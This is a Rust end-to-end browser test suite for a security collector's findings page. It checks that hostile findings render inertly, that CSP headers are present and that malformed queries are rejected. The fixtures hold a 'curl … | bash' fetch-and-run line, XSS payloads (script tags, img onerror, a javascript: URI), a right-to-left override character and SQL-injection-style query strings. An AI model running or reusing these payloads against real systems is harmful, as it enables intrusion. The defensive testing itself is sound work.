//! The collector's page in a real browser, with findings that want to take it over.

use std::{collections::BTreeMap, fs, path::PathBuf};

use e2e::{browser::Browser, client, collectors, daemon, made, outcome, request};
use proto::{
    ingest::{Batch, Health, Sensor},
    scc::{File, Finding, Process, finding::Severity},
    well_known::{ListValue, Timestamp, Value, value::Kind},
};

const SCRIPT: &str = "#!/bin/bash\n# </script><script>document.title='owned'</script>\necho héllo <b>bold</b> \u{202e}gnp.exe\n: curl -s http://192.0.2.7/x | bash\n: <img src=x onerror=document.title='owned'> \u{1b}[2J\n";
const PAYLOAD: &str = ": curl -s http://192.0.2.7/x | bash";

fn text(text: &str) -> Value {
    Value { kind: Some(Kind::StringValue(text.to_owned())) }
}

fn list(of: &[&str]) -> Value {
    Value { kind: Some(Kind::ListValue(ListValue { values: of.iter().map(|one| text(one)).collect() })) }
}

fn hostile(id: &str, pod: &str, seconds: i64) -> Finding {
    let start = SCRIPT.find(PAYLOAD).expect("the payload");
    let span = format!("lines 4-4, bytes {start}-{}, weight 3.21", start + PAYLOAD.len());
    let sha256 = outcome::sha256(SCRIPT.as_bytes());
    let script = File {
        path: "/tmp/<img src=x onerror=document.title='owned'>.sh".to_owned(),
        size: SCRIPT.len() as i64,
        hashed_size: SCRIPT.len() as i64,
        sha256,
        contents: SCRIPT.to_owned(),
        ..File::default()
    };
    let process = Process {
        name: "x.sh".to_owned(),
        binary: Some(File { path: "/usr/bin/bash".to_owned(), ..File::default() }),
        args: vec!["bash".to_owned(), "<i>x.sh</i>".to_owned()],
        script: Some(script),
        pid: 4711,
        ..Process::default()
    };
    let parent = Process { name: "node".to_owned(), pid: 12, ..Process::default() };
    Finding {
        category: "Malicious Script Executed".to_owned(),
        severity: Severity::Critical.into(),
        event_time: Some(Timestamp { seconds, nanos: 0 }),
        external_uri: "javascript:document.title='owned'".to_owned(),
        next_steps: "Isolate the pod.".to_owned(),
        processes: vec![process, parent],
        source_properties: BTreeMap::from([
            ("Pod_Name".to_owned(), text(pod)),
            ("Pod_Namespace".to_owned(), text("shop")),
            ("Container_Name".to_owned(), text("web")),
            ("Container_Image_Uri".to_owned(), text("registry.example/web:1.4")),
            ("Script_Origin".to_owned(), text("file")),
            ("Verdict_Score".to_owned(), Value { kind: Some(Kind::NumberValue(0.997)) }),
            ("Verdict_Techniques".to_owned(), list(&["T1059.004", "T1105"])),
            ("Verdict_Spans".to_owned(), list(&[&span])),
        ]),
        ..made::saying(id, "A script <script>document.title='owned'</script> was executed.")
    }
}

/// Where pictures of the page go.
fn pictures() -> PathBuf {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../target/screenshots");
    fs::create_dir_all(&dir).expect("a directory");
    dir
}

async fn send(port: u16, finding: Finding) {
    client::deliver(port, client::batch(1, 1, &[finding])).await.expect("an acknowledgement");
}

/// In the end nothing was run or loaded that is not the page's own.
async fn is_unharmed(browser: &Browser) {
    let title = browser.value("document.title").await.expect("a title");
    assert_eq!(title, "Findings · scriptwatch");
    assert_eq!(
        browser
            .value("document.querySelectorAll('img, i, b, main script, [onerror]').length")
            .await
            .expect("a number"),
        0
    );
    let loaded = "performance.getEntriesByType('resource').every(e => e.name.startsWith(location.origin))";
    assert_eq!(browser.value(loaded).await.expect("an answer"), true);
}

#[tokio::test]
async fn the_page_shows_hostile_findings_as_text_and_new_ones_by_itself() {
    let dir = tempfile::tempdir().expect("a directory");
    let web = format!("127.0.0.1:{}", daemon::free_port());
    let args = ["--plaintext", "--web-listen", &web];
    let (_collector, port) = collectors::start_with(dir.path(), "port", 0, &args).expect("a collector");
    for number in 0..3 {
        send(port, hostile(&format!("a{number}"), &format!("web-{number}"), 1_800_000_000 + number)).await;
    }
    let sensor = Some(Sensor { node: "<b>n</b>".to_owned(), version: "<i>0</i>".to_owned() });
    let health = Some(Health { impairments: vec!["events_lost".to_owned()], ..Health::default() });
    let word = Batch { sequence: 1, sensor, findings: Vec::new(), health };
    client::deliver(port, word).await.expect("an acknowledgement");
    daemon::wait_until("both sensors", || collectors::nodes(dir.path(), &[]).is_ok_and(|all| all.len() == 2));
    for (name, width, is_dark) in [("light", 1400, false), ("dark", 1400, true), ("narrow", 480, false)] {
        let browser = Browser::start(width, 1000, is_dark).await.expect("a browser");
        browser.client.goto(&format!("http://{web}/")).await.expect("the page");
        browser.wait_until("document.querySelectorAll('#rows tr').length >= 3").await.expect("rows");
        browser.wait_until("document.getElementById('live').textContent === 'live'").await.expect("news");
        if name == "light" {
            send(port, hostile("b", "web-9", 1_800_000_100)).await;
            browser.wait_until("document.querySelector('#rows tr.new td:nth-child(4)')?.textContent.startsWith('shop/web-9') === true").await.expect("news");
        }
        browser.wait_until("!document.getElementById('sensors').hidden").await.expect("sensors");
        let summary = browser.value("document.getElementById('sensors-summary').textContent").await;
        assert_eq!(summary.expect("a text"), "2 sensors: 1 impaired, 2 outdated");
        let worst = "[...document.querySelectorAll('#sensors-rows tr:first-child td')].map(c => c.textContent).join('|')";
        let worst = browser.value(worst).await.expect("a text");
        let worst = worst.as_str().unwrap_or_default();
        assert!(
            worst.starts_with("<b>n</b>|impaired|<i>0</i>|") && worst.ends_with("|events_lost"),
            "{worst}"
        );
        browser.click("#sensors-summary").await.expect("a click");
        // The newest is first.
        browser.click("#rows tr").await.expect("a click");
        browser.wait_until("!document.getElementById('detail').hidden").await.expect("the finding");
        let marked = browser
            .value("[...document.querySelectorAll('#script mark')].map(m => m.textContent).join('|')")
            .await;
        assert_eq!(marked.expect("a text"), PAYLOAD);
        let lines =
            browser.value("document.querySelectorAll('#script .line').length").await.expect("a number");
        assert_eq!(lines, SCRIPT.split('\n').count());
        let last = "getComputedStyle(document.querySelector('#script .line:last-child'), '::before').content";
        assert_eq!(browser.value(last).await.expect("a number"), format!("\"{lines}\""));
        // What cannot be seen, or turns the line around, is spelled out.
        let odd = browser
            .value("[...document.querySelectorAll('#script .odd')].map(m => m.textContent).join(' ')")
            .await;
        assert_eq!(odd.expect("a text"), "U+202E U+001B");
        let link = browser.value("document.getElementById('virustotal').href").await.expect("a link");
        let digest = outcome::sha256(SCRIPT.as_bytes());
        assert_eq!(link, format!("https://www.virustotal.com/gui/file/{digest}/detection"));
        browser.click("#copy").await.expect("a click");
        browser
            .wait_until("document.getElementById('copied').textContent === 'Copied.'")
            .await
            .expect("a copy");
        browser.paste_into("[name=pod]").await.expect("a paste");
        let pasted = browser.value("document.querySelector('[name=pod]').value").await.expect("a value");
        assert!(
            pasted.as_str().is_some_and(|text| text.contains("\"category\": \"Malicious Script Executed\""))
        );
        browser.value("document.querySelector('[name=pod]').value = ''").await.expect("a value");
        is_unharmed(&browser).await;
        let wide = browser
            .value("document.documentElement.scrollWidth <= window.innerWidth")
            .await
            .expect("an answer");
        assert_eq!(wide, true, "{name}: the page is wider than its window");
        let picture = browser.client.screenshot().await.expect("a picture");
        fs::write(pictures().join(format!("{name}.png")), picture).expect("a file");
        browser.close().await.expect("an end");
    }
}

#[tokio::test]
async fn filters_find_pages_go_on_and_nonsense_is_named() {
    let dir = tempfile::tempdir().expect("a directory");
    let web = format!("127.0.0.1:{}", daemon::free_port());
    let args = ["--plaintext", "--web-listen", &web];
    let (_collector, port) = collectors::start_with(dir.path(), "port", 0, &args).expect("a collector");
    let many: Vec<Finding> =
        (0..150).map(|n| hostile(&format!("a{n}"), &format!("web-{n}"), 1_800_000_000 + n)).collect();
    client::deliver(port, client::batch(1, 1, &many)).await.expect("an acknowledgement");
    let browser = Browser::start(1400, 1000, false).await.expect("a browser");
    browser.client.goto(&format!("http://{web}/")).await.expect("the page");
    browser.wait_until("document.querySelectorAll('#rows tr').length === 100").await.expect("a page");
    browser.click("#more").await.expect("a click");
    browser.wait_until("document.querySelectorAll('#rows tr').length === 150").await.expect("another");
    // The address keeps what is looked for.
    browser.client.goto(&format!("http://{web}/?pod=shop%2Fweb-7&technique=T1105")).await.expect("the page");
    browser.wait_until("document.querySelectorAll('#rows tr').length === 1").await.expect("one");
    assert_eq!(
        browser.value("document.querySelector('[name=pod]').value").await.expect("a value"),
        "shop/web-7"
    );
    let look = "document.querySelector('[name=since]').value = 'yesterday'; document.querySelector('form').requestSubmit()";
    browser.client.execute(look, vec![]).await.expect("a search");
    browser
        .wait_until("document.getElementById('problem').textContent.includes('1h or 7d')")
        .await
        .expect("a reason");
    browser.close().await.expect("an end");
}

#[tokio::test]
async fn another_sites_name_gets_nothing_and_every_answer_has_the_policy() {
    let dir = tempfile::tempdir().expect("a directory");
    let web = format!("127.0.0.1:{}", daemon::free_port());
    let args = ["--plaintext", "--web-listen", &web, "--web-host", "findings.example"];
    let (_collector, port) = collectors::start_with(dir.path(), "port", 0, &args).expect("a collector");
    send(port, hostile("a", "web-0", 1_800_000_000)).await;
    for path in ["/", "/page.js", "/page.css", "/api/findings", "/api/finding?name=x", "/nowhere"] {
        let answer = request::get(&web, path);
        assert!(
            answer.contains("content-security-policy: default-src 'none'; script-src 'self'"),
            "{answer}"
        );
        assert!(answer.contains("x-content-type-options: nosniff"), "{answer}");
        assert!(!answer.contains("unsafe-inline"), "{answer}");
    }
    assert!(request::get_as(&web, "findings.example", "/api/findings").starts_with("HTTP/1.1 200"));
    let foreign = request::get_as(&web, "evil.example", "/api/findings");
    assert!(foreign.starts_with("HTTP/1.1 421") && !foreign.contains("web-0"), "{foreign}");
    assert!(request::get(&web, "/api/findings?colour=red").starts_with("HTTP/1.1 400"));
    assert!(request::get(&web, "/api/findings?page=1;DROP").starts_with("HTTP/1.1 400"));
    assert!(request::get(&web, "/api/finding?name=%27%20OR%201=1").starts_with("HTTP/1.1 404"));
}
